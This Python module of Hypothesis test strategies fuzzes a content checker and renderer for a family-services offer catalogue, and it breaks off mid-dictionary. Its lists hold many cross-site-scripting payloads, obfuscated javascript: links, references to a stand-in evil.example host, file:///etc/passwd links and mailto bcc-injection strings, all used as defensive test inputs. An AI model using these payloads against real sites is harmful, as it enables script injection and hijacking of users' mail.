"""Hypothesis strategies for content folders laid out by the content format (docs/partner/referenz/inhaltsformat.md).

- valid_content(): new offers (every key of the contract), translations, providers and free pages, written with
  any Unicode a partner can type (emoji, CJK, right-to-left, combining marks, zero-width and bidirectional
  characters) and with text that looks like markup or code (it is text, so it is valid), onto the ids of the
  fixture catalogue's site.yaml;
- valid_body(): Markdown that passes `check` (no raw HTML outside code), including what a partner may write
  that is still hostile: javascript:, data: and vbscript: links and images, autolinks, raw HTML inside code,
  nested emphasis, long lines, deep lists and block quotes;
- hostile_markdown(): any of that plus raw HTML and attribute tricks, for the renderer alone;
- mutations(): ways to break a folder: wrong types, unknown and missing keys, broken YAML lines, truncated or
  re-encoded files, bad file names, missing files, stray files and folders.

Left out here, because the lead engineer is changing them (issue 13) and tests/test_properties.py exercises
them in tests of their own: control characters, YAML tags („!!python/…“), anchors and aliases, too-deep
nesting, symlinks, files in bilder/, and text lengths that only hold after NFC normalisation. Also left out:
site.yaml's `synonyme` and `uebersetzungen` (contract, but issues 16 and 17, not built yet).
"""

from __future__ import annotations

import re
import shutil
import unicodedata
from dataclasses import dataclass, field
from datetime import date
from functools import cache
from pathlib import Path

import yaml
from hypothesis import strategies as st

from catalogue.check import schemas
from catalogue.check.addresses import web_address_problem
from catalogue.check.pages import RESERVED_PAGE_IDS
from catalogue.model.languages import EASY_GERMAN, known_codes
from catalogue.model.offers import FORMATS, WEEKDAYS
from catalogue.model.site import WHOLE_CITY
from catalogue.read.files import ContentLoader

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "katalog"
TODAY = date(2026, 11, 22)  # as conftest.TODAY

_SITE = yaml.load((FIXTURE / "site.yaml").read_text(encoding="utf-8"), Loader=ContentLoader)
TOPICS = list(_SITE["themen"])
PHASES = [phase["id"] for phase in _SITE["lebensphasen"]]
DISTRICTS = [*_SITE["stadtteile"], WHOLE_CITY]
FEATURES = list(_SITE["barrierefreiheit"])
PROVIDERS = sorted(path.stem for path in (FIXTURE / "anbieter").glob("*.md"))
IMAGES = sorted(path.name for path in (FIXTURE / "bilder").iterdir())
FIXTURE_FILES = sorted(path.relative_to(FIXTURE).as_posix() for path in FIXTURE.rglob("*") if path.is_file())
TAKEN_IDS = {path.name.split(".")[0] for path in FIXTURE.rglob("*.md")} | set(RESERVED_PAGE_IDS)
LANGUAGES = [code for code in known_codes() if code != "de"]
TRANSLATION_LANGUAGES = [EASY_GERMAN, "en", "tr", "ar", "uk", "ru", "fa", "he", "ur", "zh", "ja", "ko", "pl", "ro",
                         "ku", "ti", "am", "hi", "th", "el", "yi", "dv"]


def nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


# --- text -------------------------------------------------------------------------------------------------

# Any character UTF-8 can hold but control characters (C0, C1, DEL) and the two non-characters libyaml refuses:
# those are the lead's known problem and have a test of their own.
UNICODE = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff")
WORLD = [
    "Krabbelgruppe", "Familienzentrum", "Straße", "Ärztin", "für", "Öffnungszeiten", "Eltern-Kind-Café",
    "🎵", "👶🏽", "🇩🇪", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🧑🏿‍🦽", "❤️", "1️⃣", "\U0001F600", "\U000E0067\U000E0062",
    "中文的文字", "日本語のテキスト", "한국어", "ＦＵＬＬＷＩＤＴＨ", "مجموعة الأطفال", "שלום עליכם", "گروه نوزادان",
    "Привіт", "Ελληνικά", "देवनागरी", "ภาษาไทย", "ᠮᠣᠩᠭᠣᠯ", "ꦗꦮ", "𝕬𝖇𝖈", "𒀀",
    "a\u0308", "o\u0308\u0301", "Z\u0335\u0321a\u0336l\u0334g\u0337o", "\u1100\u1161", "\u0958", "\u0344",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u00a0", "\u202f", "\u3000", "\u2028", "\u2029",
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u061c", "\u200f", "ﷺ", "ﬁ", "ǅ", "İ", "ß", "ẞ", "ſ",
]
# Text that looks like markup, code, a URL or a format string: in front matter it is plain text.
HOSTILE_TEXT = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>', "' onmouseover='alert(1)' x='", "javascript:alert(1)", " JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>x</script>",
    "<!--", "-->", "]]>", "<![CDATA[", "{{ 7*7 }}", "{% raw %}", "{#", "${alert(1)}", "%s%n%x", "{0}{key}{}",
    "&amp;&lt;&#x3C;&#0;", "\\", "\\u003c", "`", "*", "_", "[", "](", "#", "|", "---", "...", ": ", " #", "- ",
    "? ", "@", "!", "&", "%", "'", '"', "<", ">", "\u2028<script>", "\\n", "\t",
]
PLAIN_HOSTILE = [text for text in HOSTILE_TEXT if "<" not in text and "`" not in text and "\t" not in text]


def _fit(text: str, low: int, high: int) -> str:
    """Cut or pad `text` so that its length is within [low, high] both as written and after NFC."""
    text = text[:high]
    while text and len(nfc(text)) > high:
        text = text[:-1]
    while min(len(text), len(nfc(text))) < low:
        text += "a"
    return text


@cache
def texts(low: int = 1, high: int = 200, hostile: bool = True, newlines: bool = True) -> st.SearchStrategy[str]:
    """Text of low–high characters (as written and after NFC)."""
    space = " \t\n" if newlines else " "
    pieces = [st.text(UNICODE | st.sampled_from(space), max_size=12), st.sampled_from(WORLD)]
    if hostile:
        pieces.append(st.sampled_from(HOSTILE_TEXT if newlines else [t for t in HOSTILE_TEXT if "\t" not in t]))
    return st.lists(st.one_of(*pieces), max_size=max(3, high // 16)).map(lambda parts: _fit("".join(parts), low, high))


# What JSON Schema's \s means differs between regex engines (the Rust one of jsonschema-rs, Python's re):
# valid addresses keep clear of every kind of space.
_ADDRESS = st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp"),
                         exclude_characters='@<>"\ufffe\uffff\ufeff\u180e\u200b\x85')


def _address_text(exclude: str = "", min_size: int = 1, max_size: int = 16) -> st.SearchStrategy[str]:
    alphabet = _ADDRESS.filter(lambda c: c not in exclude)
    return st.one_of(st.text(alphabet, min_size=min_size, max_size=max_size),
                     st.sampled_from(["example", "fz", "müller", "日本", "xn--mller-kva", "a-b", "x"]))


# An address is only an address: nothing that a mailto: link would read as headers or another address (issue 32.1).
NOT_IN_AN_ADDRESS = "?&%#/\\:;,()[]"
NOT_IN_A_DOMAIN = NOT_IN_AN_ADDRESS + "!$'*+=^`{|}~_"
emails = st.builds(lambda local, domain, tld: f"{local}@{domain}.{tld}",
                   _address_text(exclude=NOT_IN_AN_ADDRESS), _address_text(exclude=NOT_IN_A_DOMAIN),
                   _address_text(exclude=NOT_IN_A_DOMAIN + "."))
# What a partner might add to an address, by mistake or to copy families' mails to someone else.
EMAIL_ADDITIONS = ["?bcc=spy%40evil.example", "?cc=x@evil.example&body=x", "&bcc=x@evil.example", "#x", "%0Abcc:x",
                   "?subject=x", "/x", "\\x", ":25", ";x@evil.example", ",x@evil.example", "(x)", "[x]"]
hostile_emails = st.one_of(
    st.builds(lambda address, addition: address + addition, emails, st.sampled_from(EMAIL_ADDITIONS)),
    st.builds(lambda local, mark, rest: f"{local}{mark}{rest}", _address_text(exclude=NOT_IN_AN_ADDRESS),
              st.sampled_from(sorted(NOT_IN_AN_ADDRESS)), emails),
)
WEB = re.compile(schemas.load_schema(schemas.OFFER)["$defs"]["web"]["pattern"])
webs = st.builds(
    lambda scheme, host, rest, tail: f"{scheme}://{host}.{rest}{tail}",
    st.sampled_from(["http", "https"]),
    _address_text(exclude="/?#."),
    _address_text(exclude="/?#"),
    st.one_of(st.just(""), st.just("/"),
              st.builds(lambda mark, path: mark + path, st.sampled_from("/?#"), _address_text(min_size=0)),
              st.sampled_from(["/javascript:alert(1)", "/?q=<script>alert(1)</script>", "/\"onmouseover=\"x",
                               "#'><img/src=x/onerror=alert(1)>", "/%22%3E%3Cscript%3E"])),
).filter(WEB.match).filter(lambda web: web_address_problem(web) is None)  # what the check takes for an address
# What a reader takes for one site and a browser opens as another, or cannot open (issue 32.2).
hostile_webs = st.one_of(
    st.builds(lambda scheme, user, host, rest: f"{scheme}://{user}@{host}{rest}",
              st.sampled_from(["http", "https", "HTTPS", "hTtP"]),
              st.one_of(_address_text(exclude="/?#@\\"), st.sampled_from(["www.ratingen.de", "user:pass", ":", ""])),
              st.sampled_from(["evil.example", "www.ratingen.de", "127.0.0.1", "[::1]", "xn--mller-kva.example"]),
              st.sampled_from(["", "/", "/a?b#c", "\\x"])),
    st.builds(lambda scheme, before, after: f"{scheme}://{before}\\{after}", st.sampled_from(["http", "https"]),
              st.sampled_from(["evil.example", "www.ratingen.de", ""]),
              st.sampled_from(["@www.ratingen.de/", "www.ratingen.de/", "/x", ""])),
    st.builds(lambda scheme, rest: f"{scheme}:{rest}",
              st.sampled_from(["javascript", "data", "file", "ftp", "mailto", "vbscript", "http", "https", "blob"]),
              st.sampled_from(["//evil.example/", "alert(1)", "text/html,<script>", "///etc/passwd", "/\\evil.example",
                               "\\\\evil.example", "//www.ratingen.de%40evil.example/", "//%77%77%77.example/"])),
)
phones = st.one_of(
    st.integers(min_value=0, max_value=10**15),
    st.builds(lambda before, digit, after: before + digit + after,
              texts(0, 10, hostile=False, newlines=False), st.sampled_from("0123456789"),
              texts(0, 20, newlines=False)),
    st.sampled_from(["116 111", "0800 111 0 550", "+49 2102 550-5124", "(0 21 02) 55 0", "☎ 112"]),
)
ids = st.from_regex(r"[a-z0-9-]{3,40}", fullmatch=True).filter(lambda i: i not in TAKEN_IDS)
days = st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31))
past_days = st.dates(min_value=date(1, 1, 1), max_value=TODAY)


LAST_MINUTE = 23 * 60 + 59


@st.composite
def clocks(draw, after: int = -1, before: int = LAST_MINUTE + 1) -> tuple[int, str]:
    """(minutes since midnight, "H:MM" or "HH:MM") after `after` and before `before`."""
    minutes = draw(st.integers(min_value=after + 1, max_value=before - 1))
    hours, rest = divmod(minutes, 60)
    padded = draw(st.booleans()) or hours >= 10
    return minutes, f"{hours:02d}:{rest:02d}" if padded else f"{hours}:{rest:02d}"


def _optional(draw, data: dict, key: str, strategy) -> None:
    if draw(st.booleans()):
        data[key] = draw(strategy)


def _unique(items, min_size=0, max_size=None):
    return _unique_of(tuple(items), min_size, max_size)


@cache
def _unique_of(items: tuple, min_size: int, max_size: int | None):
    return st.lists(st.sampled_from(items), min_size=min_size, max_size=max_size, unique=True)


# --- Markdown ---------------------------------------------------------------------------------------------

LINK_TARGETS = [
    "https://example.org/angebot", "http://example.org/?a=1&b=2#x", "bilder/krabbeln.png", "../impressum/",
    "mailto:fz@example.org", "tel:+492102550", "javascript:alert(1)", "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "java&#x09;script:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)", "jav%0Aascript:alert(1)",
    "<javascript:alert(1)>", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E", "file:///etc/passwd", "//evil.example/x",
    "https://example.org/\"onmouseover=\"alert(1)", "https://example.org/'><script>alert(1)</script>",
    'https://example.org "title" onclick="alert(1)', "#top", "", "   ",
]
# Autolinks: not raw HTML for `check` (it looks for a tag name followed by a space, "/" or ">").
AUTOLINKS = ["<https://example.org/a>", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<mailto:a@example.org>",
             "<data:text/html,x>", "<vbscript:x>", "<fz@example.org>", "<tel:116111>"]
LOOKS_LIKE_A_TAG = re.compile(r"<[A-Za-z/!?]")
# What a valid description may link to: anything that is not a tag for `check`.
VALID_TARGETS = [target for target in LINK_TARGETS if not LOOKS_LIKE_A_TAG.search(target.replace("<javascript:", ""))]
FENCE = re.compile(r"^\s*(```|~~~)")
# Raw HTML, which `check` refuses; only the renderer sees it.
RAW_HTML = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style>"
    "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>x</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=data:text/html,x>", "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=javascript&colon;alert(1)>x</a>",
    "<a href=\" &#14;javascript:alert(1)\">x</a>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<x onclick=alert(1)>klick</x>", "<p style=\"background:url(javascript:x)\">",
    "<style>*{background:url(javascript:alert(1))}</style>", "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<link rel=import href=//evil.example>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<template><script>x</script></template>",
    "<textarea><script>alert(1)</script></textarea>", "<title><script>alert(1)</script></title>",
    "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?>",
    "<scr<script>ipt>alert(1)</script>", "<a/href=\"javascript:alert(1)\">x</a>", "<img/src/onerror=alert(1)>",
    "<div\nonclick=alert(1)>x</div>", "<a href='x' onclick='alert(1)'>x</a>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "<abbr title=\"x\" onmouseover=\"alert(1)\">x</abbr>",
    "<ol start=\"1\" onclick=\"x\"><li>x</li></ol>", "<th scope=\"x\" style=\"x\">", "<video><source onerror=alert(1)>",
]


def _no_tags(text: str) -> str:
    """Text that `check` does not take for raw HTML: no „<“ followed by a letter or „/“."""
    return LOOKS_LIKE_A_TAG.sub(lambda match: "< " + match.group(0)[1:], text)


def _one_line(text: str) -> str:
    return text.replace("\n", " ").replace("\u2028", " ").replace("\u2029", " ")


words = texts(0, 40, newlines=False).map(lambda t: _no_tags(t).replace("`", "'").replace("\t", " "))
labels = words.map(lambda t: t.replace("[", "(").replace("]", ")"))
code_text = st.one_of(st.sampled_from(RAW_HTML), texts(0, 40, newlines=False)).map(
    lambda t: _one_line(t).replace("`", "'"))


@st.composite
def inline(draw) -> str:
    """One line of Markdown without raw HTML."""
    parts = draw(st.lists(st.one_of(
        words,
        words.map(lambda w: f"**{w}**"), words.map(lambda w: f"*{w}*"), words.map(lambda w: f"_{w}_"),
        words.map(lambda w: f"***{w}***"), words.map(lambda w: f"**_*{w}*_**"),
        code_text.map(lambda c: f"`{c}`"),
        st.builds(lambda label, target: f"[{label}]({target})", labels, st.sampled_from(VALID_TARGETS)),
        st.builds(lambda alt, target: f"![{alt}]({target})", labels, st.sampled_from(VALID_TARGETS)),
        st.sampled_from(AUTOLINKS),
        st.sampled_from(["a < b", "3 > 2", "&lt;script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;",
                         "\\*", "*", "**", "_", "[", "]", "![", "](", "~~x~~", "  ", "\\"]),
        st.sampled_from(PLAIN_HOSTILE),
    ), min_size=1, max_size=6))
    line = _one_line(" ".join(parts))
    return "x " + line if FENCE.match(line) else line  # a fence would hide what follows from `check`


@st.composite
def blocks(draw) -> str:
    kind = draw(st.sampled_from(["heading", "paragraph", "list", "quote", "fence", "indented", "table", "rule",
                                 "setext", "reference", "long", "deep_list", "deep_quote", "emphasis"]))
    if kind == "heading":
        return "#" * draw(st.integers(1, 6)) + " " + draw(inline())
    if kind == "paragraph":
        return "\n".join(draw(st.lists(inline(), min_size=1, max_size=3)))
    if kind == "list":
        marker = draw(st.sampled_from(["- ", "* ", "+ ", "1. ", "3. "]))
        items = draw(st.lists(st.tuples(st.integers(0, 3), inline()), min_size=1, max_size=5))
        return "\n".join("  " * depth * 2 + marker + text for depth, text in items)
    if kind == "quote":
        return "\n".join("> " * draw(st.integers(1, 4)) + line for line in draw(st.lists(inline(), min_size=1,
                                                                                          max_size=3)))
    if kind == "fence":  # not a code block for Python-Markdown (no fenced_code), but `check` skips it
        fence = draw(st.sampled_from(["```", "~~~"]))
        lines = draw(st.lists(code_text, max_size=4))
        return "\n".join([fence, *[line for line in lines if not FENCE.match(line)], fence])
    if kind == "indented":
        return "\n".join("    " + line for line in draw(st.lists(code_text, min_size=1, max_size=4)))
    if kind == "table":
        columns = draw(st.integers(1, 4))
        cell = inline().map(lambda c: c.replace("|", "/"))
        header = draw(st.lists(cell, min_size=columns, max_size=columns))
        rows = draw(st.lists(st.lists(cell, min_size=columns, max_size=columns), max_size=3))
        lines = ["| " + " | ".join(header) + " |", "|" + "---|" * columns]
        return "\n".join(lines + ["| " + " | ".join(row) + " |" for row in rows])
    if kind == "rule":
        return draw(st.sampled_from(["---", "***", "___", "- - -"]))
    if kind == "setext":
        return draw(inline()) + "\n" + draw(st.sampled_from(["===", "---"]))
    if kind == "reference":
        target = draw(st.sampled_from(VALID_TARGETS))
        return f"[{draw(labels)}][r1] und ![{draw(labels)}][r1]\n\n[r1]: {target or 'x'}"
    if kind == "long":
        return (draw(words) + draw(st.sampled_from(["a", "🎵", "漢", "ب", " ", "a "]))
                * draw(st.integers(500, 5000)))
    if kind == "deep_list":
        depth = draw(st.integers(5, 40))
        return "\n".join("  " * level + "- " + str(level) for level in range(depth))
    if kind == "deep_quote":
        return "> " * draw(st.integers(5, 60)) + draw(inline())
    return draw(st.sampled_from(["*", "_", "**", "__"])) * draw(st.integers(3, 80)) + draw(words) + draw(
        st.sampled_from(["*", "_", "**", "__"])) * draw(st.integers(3, 80))


def valid_body() -> st.SearchStrategy[str]:
    """A description that passes `check` (warnings allowed): Markdown without raw HTML outside code."""
    return st.lists(blocks(), max_size=4).map("\n\n".join)


def hostile_markdown() -> st.SearchStrategy[str]:
    """Anything a file's body may hold, raw HTML included, interleaved with valid Markdown."""
    piece = st.one_of(blocks(), st.sampled_from(RAW_HTML), st.text(UNICODE | st.sampled_from("<>\"'=/\n\t "),
                                                                      max_size=60))
    return st.lists(piece, max_size=8).flatmap(
        lambda parts: st.sampled_from(["\n\n", "\n", " ", ""]).map(lambda glue: glue.join(parts)))


# --- files ------------------------------------------------------------------------------------------------


class _Dumper(yaml.SafeDumper):
    """Writes a value used twice twice, as a partner would, not as an anchor and an alias (which `check` refuses)."""

    def ignore_aliases(self, data):
        return True


def dump(data: dict, style: dict) -> str:
    """YAML that means `data` as `check` reads it. read/files.py reads U+2028 and U+2029 as spaces (YAML 1.2, as editors
    and GitHub do: no line breaks), so they are written as spaces. PyYAML, writing YAML 1.1, would break the
    line there and indent the rest of a quoted value, and the indentation would become part of it; written as
    they are, they would change how PyYAML quotes a value (one that begins with them would lose its first
    character). Files with the separators themselves: test_found_a_line_separator_is_no_line_break."""
    return yaml.dump(_without_line_separators(data), Dumper=_Dumper, allow_unicode=True, sort_keys=False, **style)


def _without_line_separators(value):
    if isinstance(value, str):
        return value.replace("\u2028", " ").replace("\u2029", " ")
    if isinstance(value, dict):
        return {_without_line_separators(key): _without_line_separators(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_without_line_separators(item) for item in value]
    return value


yaml_styles = st.fixed_dictionaries({
    "width": st.sampled_from([80, 30, 10**9]),
    "default_flow_style": st.sampled_from([False, None, True]),
    "default_style": st.sampled_from([None, None, '"', "'"]),
})


def markdown_file(data: dict, body: str, style: dict) -> str:
    return "---\n" + dump(data, style) + "---\n" + body + ("\n" if body else "")


@st.composite
def places(draw) -> dict:
    place = {"name": draw(texts(1, 80))}
    _optional(draw, place, "strasse", texts(1, 80))
    _optional(draw, place, "plz", st.one_of(st.integers(0, 99999), texts(1, 10)))
    _optional(draw, place, "ort", texts(1, 60))
    _optional(draw, place, "hinweis", texts(1, 200))
    return place


@st.composite
def regular_times(draw) -> dict:
    start, start_text = draw(clocks(before=LAST_MINUTE))
    _, end_text = draw(clocks(after=start))
    time = {"tage": draw(_unique(WEEKDAYS, min_size=1)), "von": start_text, "bis": end_text}
    _optional(draw, time, "hinweis", texts(1, 120))
    return time


@st.composite
def dated_events(draw) -> dict:
    event = {"datum": draw(days).isoformat()}
    shape = draw(st.sampled_from(["day", "from", "until", "both"]))
    if shape == "from":
        _, event["von"] = draw(clocks())
    if shape == "until":
        _, event["bis"] = draw(clocks())
    if shape == "both":
        start, event["von"] = draw(clocks(before=LAST_MINUTE))
        _, event["bis"] = draw(clocks(after=start))
    _optional(draw, event, "hinweis", texts(1, 120))
    return event


@st.composite
def offer_data(draw, providers: list[str]) -> dict:
    """Every key of an offer in the contract, each present or not, with a valid value."""
    data = {
        "titel": draw(texts(3, 90)), "kurz": draw(texts(20, 240)), "anbieter": draw(st.sampled_from(providers)),
        "themen": draw(_unique(TOPICS, min_size=1)), "lebensphasen": draw(_unique(PHASES, min_size=1)),
        "stadtteile": draw(_unique(DISTRICTS, min_size=1)),
    }
    if draw(st.booleans()):
        low = draw(st.integers(0, 27))
        data["alter"] = draw(st.sampled_from([{"von": low}, {"bis": low}, {}])) or {
            "von": low, "bis": draw(st.integers(low, 27))}
    _optional(draw, data, "kostenlos", st.booleans())
    _optional(draw, data, "kosten", texts(1, 200))
    _optional(draw, data, "anmeldung", texts(1, 200))
    _optional(draw, data, "sprachen", _unique(["de", *LANGUAGES], min_size=1, max_size=6))
    _optional(draw, data, "barrierefreiheit", _unique(FEATURES))
    _optional(draw, data, "orte", st.lists(places(), max_size=3))
    _optional(draw, data, "zeiten", st.lists(regular_times(), max_size=3))
    _optional(draw, data, "termine", st.lists(dated_events(), max_size=3))
    if draw(st.booleans()):
        contact = {}
        _optional(draw, contact, "name", texts(1, 80))
        _optional(draw, contact, "telefon", phones)
        _optional(draw, contact, "email", emails)
        _optional(draw, contact, "web", webs)
        data["kontakt"] = contact
    if draw(st.booleans()):
        decorative = draw(st.sampled_from([None, False, True]))
        image = {"datei": draw(st.sampled_from(IMAGES)),
                 "alt": draw(st.just("") if decorative else texts(1, 120))}
        if decorative is not None:
            image["dekorativ"] = decorative
        data["bild"] = image
    _optional(draw, data, "format", _unique(FORMATS, min_size=1))
    _optional(draw, data, "schlagworte", st.lists(texts(1, 40), max_size=5, unique=True))
    _optional(draw, data, "beispiel", st.booleans())
    data["stand"] = draw(past_days).isoformat()
    _optional(draw, data, "gueltig_bis", days.map(date.isoformat))
    keys = list(data)
    order = draw(st.permutations(keys))  # partners write keys in any order
    return {key: data[key] for key in order}


@st.composite
def translation_data(draw, place_count: int) -> dict:
    data = {"titel": draw(texts(3, 90)), "kurz": draw(texts(20, 240))}
    _optional(draw, data, "kosten", texts(1, 200))
    _optional(draw, data, "anmeldung", texts(1, 200))
    if place_count and draw(st.booleans()):
        data["orte"] = draw(st.lists(st.one_of(st.just({}), texts(1, 200).map(lambda h: {"hinweis": h})),
                                     max_size=place_count))
    return data


@st.composite
def provider_data(draw) -> dict:
    data = {"name": draw(texts(2, 120))}
    _optional(draw, data, "art", texts(1, 60))
    _optional(draw, data, "adresse", texts(1, 120))
    _optional(draw, data, "telefon", phones)
    _optional(draw, data, "email", emails)
    _optional(draw, data, "web", webs)
    _optional(draw, data, "beispiel", st.booleans())
    data["stand"] = draw(past_days).isoformat()
    return data


@st.composite
def page_data(draw) -> dict:
    data = {"titel": draw(texts(2, 90))}
    _optional(draw, data, "sprache", st.sampled_from(["de", EASY_GERMAN, *LANGUAGES]))
    _optional(draw, data, "reihenfolge", st.one_of(st.integers(-1000, 1000),
                                                    st.floats(allow_nan=False, allow_infinity=False)))
    return data


@st.composite
def site_data(draw) -> dict:
    """The fixture's site.yaml with other words for everything but the ids; sometimes as it is."""
    data = yaml.load((FIXTURE / "site.yaml").read_text(encoding="utf-8"), Loader=ContentLoader)
    if draw(st.booleans()):
        return data
    data["titel"] = draw(texts(3, 120))
    data["stadt"] = draw(texts(2, 60))
    data["basis_url"] = draw(st.one_of(st.sampled_from(["https://katalog.example.org/angebote/",
                                                        "http://localhost.example/", "https://müller.example/ä ö/"
                                                        .replace(" ", "%20")]),
                                       webs))
    publisher = {"name": draw(texts(2, 120))}
    for key, strategy in (("ansprechperson", texts(2, 80)), ("adresse", texts(1, 120)), ("telefon", phones),
                          ("email", emails), ("web", webs)):
        _optional(draw, publisher, key, strategy)
    data["herausgeber"] = publisher
    for key in ("themen", "stadtteile", "barrierefreiheit"):
        data[key] = {term: draw(texts(1, 60)) for term in data[key]}
    for phase in data["lebensphasen"]:
        phase["name"] = draw(texts(2, 60))
        _optional(draw, phase, "beschreibung", texts(1, 200))
    data["hilfe"] = draw(st.lists(st.fixed_dictionaries({"name": texts(2, 80), "telefon": phones},
                                                        optional={"hinweis": texts(1, 80)}), max_size=3))
    feedback = {}
    _optional(draw, feedback, "email", emails)
    _optional(draw, feedback, "url", webs)
    data["feedback"] = feedback
    if draw(st.booleans()):
        statement = {"stand": draw(past_days).isoformat(),
                     "status": draw(st.sampled_from(["vollstaendig", "teilweise", "nicht"]))}
        _optional(draw, statement, "bewertung", texts(1, 120))
        _optional(draw, statement, "einschraenkungen", st.lists(texts(1, 200), max_size=3))
        if draw(st.booleans()):
            statement["ombudsstelle"] = {"name": draw(texts(2, 80)), "web": draw(webs)}
        data["barrierefreiheit_erklaerung"] = statement
    _optional(draw, data, "eintraege_pro_seite", st.integers(5, 200))
    _optional(draw, data, "pruefintervall_monate", st.integers(1, 120))
    return data


@dataclass
class Content:
    """Files to write over a copy of the fixture catalogue, and what they hold."""

    files: dict[str, str] = field(default_factory=dict)  # path inside the content folder → text
    offers: dict[str, dict] = field(default_factory=dict)  # id → front matter
    translations: list[tuple[str, str]] = field(default_factory=list)  # (offer id, language)
    providers: list[str] = field(default_factory=list)
    pages: list[str] = field(default_factory=list)

    def write(self, root: Path) -> None:
        for relative, text in self.files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8", newline="")

    def __repr__(self) -> str:  # what a failing example shows: the files as a partner would see them
        return "Content(\n" + "\n".join(f"=== {path}\n{text}" for path, text in self.files.items()) + "\n)"


@st.composite
def valid_content(draw, max_offers: int = 2) -> Content:
    content = Content()
    style = draw(yaml_styles)
    if draw(st.booleans()):
        content.files["site.yaml"] = dump(draw(site_data()), style)
    new_ids = draw(st.lists(ids, min_size=max_offers + 4, max_size=max_offers + 4, unique=True))
    for provider_id in new_ids[:draw(st.integers(0, 2))]:
        content.providers.append(provider_id)
        content.files[f"anbieter/{provider_id}.md"] = markdown_file(draw(provider_data()), draw(valid_body()), style)
    offer_ids = new_ids[2:2 + draw(st.integers(1, max_offers))]
    for offer_id in offer_ids:
        data = draw(offer_data(PROVIDERS + content.providers))
        content.offers[offer_id] = data
        content.files[f"angebote/{offer_id}.md"] = markdown_file(data, draw(valid_body()), style)
        for language in draw(_unique(TRANSLATION_LANGUAGES, max_size=2)):
            content.translations.append((offer_id, language))
            translation = draw(translation_data(len(data.get("orte", []))))
            content.files[f"angebote/{offer_id}.{language}.md"] = markdown_file(translation, draw(valid_body()),
                                                                               style)
    for page_id in new_ids[2 + max_offers:][:draw(st.integers(0, 2))]:
        page_id = draw(st.sampled_from([page_id, page_id, "barrierefreiheit", "leichte-sprache", "datenschutz"]))
        if page_id not in content.pages:
            content.pages.append(page_id)
            content.files[f"seiten/{page_id}.md"] = markdown_file(draw(page_data()), draw(valid_body()), style)
    return content


# --- breaking a folder ------------------------------------------------------------------------------------

MARKDOWN_FILES = [path for path in FIXTURE_FILES if path.endswith(".md")]
KEY_PATHS = {  # where a value can go wrong, by kind of file
    "angebote": [("titel",), ("kurz",), ("anbieter",), ("themen",), ("themen", 0), ("lebensphasen",),
                 ("stadtteile",), ("stadtteile", 0), ("alter",), ("alter", "von"), ("alter", "bis"), ("kostenlos",),
                 ("kosten",), ("sprachen",), ("sprachen", 0), ("barrierefreiheit",), ("orte",), ("orte", 0),
                 ("orte", 0, "name"), ("orte", 0, "plz"), ("zeiten",), ("zeiten", 0, "tage"), ("zeiten", 0, "von"),
                 ("zeiten", 0, "bis"), ("termine",), ("termine", 0, "datum"), ("termine", 0, "von"), ("kontakt",),
                 ("kontakt", "telefon"), ("kontakt", "email"), ("kontakt", "web"), ("bild",), ("bild", "datei"),
                 ("bild", "alt"), ("bild", "dekorativ"), ("format",), ("schlagworte",), ("beispiel",), ("stand",),
                 ("gueltig_bis",), ("orte", 0, "hinweis")],
    "anbieter": [("name",), ("art",), ("adresse",), ("telefon",), ("email",), ("web",), ("beispiel",), ("stand",)],
    "seiten": [("titel",), ("sprache",), ("reihenfolge",)],
    "site.yaml": [("titel",), ("stadt",), ("basis_url",), ("herausgeber",), ("herausgeber", "name"),
                  ("herausgeber", "email"), ("themen",), ("themen", "beratung"), ("lebensphasen",),
                  ("lebensphasen", 0), ("lebensphasen", 0, "id"), ("lebensphasen", 1, "alter_von"),
                  ("lebensphasen", 2, "alter_bis"), ("stadtteile",), ("stadtteile", "mitte"), ("barrierefreiheit",),
                  ("hilfe",), ("hilfe", 0, "telefon"), ("pruefintervall_monate",), ("feedback",),
